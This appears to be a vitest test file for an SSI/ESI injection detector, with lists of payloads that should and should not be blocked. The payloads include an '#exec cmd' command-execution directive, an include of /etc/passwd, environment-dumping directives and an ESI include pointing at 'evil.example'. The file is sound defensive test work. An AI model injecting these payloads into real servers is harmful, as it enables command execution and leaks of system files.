import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionSsi } from '../../src/detectors/injection-ssi.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['<!--#exec cmd="id"-->', {}],
  ['<!--#include virtual="/etc/passwd"-->', {}],
  ['<!-- #echo var="DOCUMENT_ROOT" -->', {}],
  ['<!--#printenv -->', {}],
  ['<esi:include src="http://evil.example/"/>', {}],
  ['<!--#config timefmt="%A" -->', {}],
];

const QUIET: Row[] = [
  ['<!-- comment -->', {}],
  ['<!-- # heading -->', {}],
  ['<!-- #1 in sales -->', {}],
  ['<b>#include</b>', {}],
  ['#include <stdio.h>', {}],
  ['<!-- TODO: echo -->', {}],
  ['x <!-- y --> z', {}],
];

describe('injection-ssi', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(injectionSsi, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(injectionSsi, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
